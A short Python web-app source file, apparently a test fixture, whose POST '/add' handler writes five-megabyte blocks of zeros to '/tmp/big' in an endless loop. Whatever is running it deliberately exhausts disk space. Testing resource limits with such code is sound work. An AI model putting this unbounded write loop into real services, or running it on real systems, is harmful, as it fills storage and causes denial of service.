from web import App, request

app = App()


@app.post('/add')
def add():
    with open('/tmp/big', 'wb') as file:
        while True:
            file.write(bytes(5_000_000))
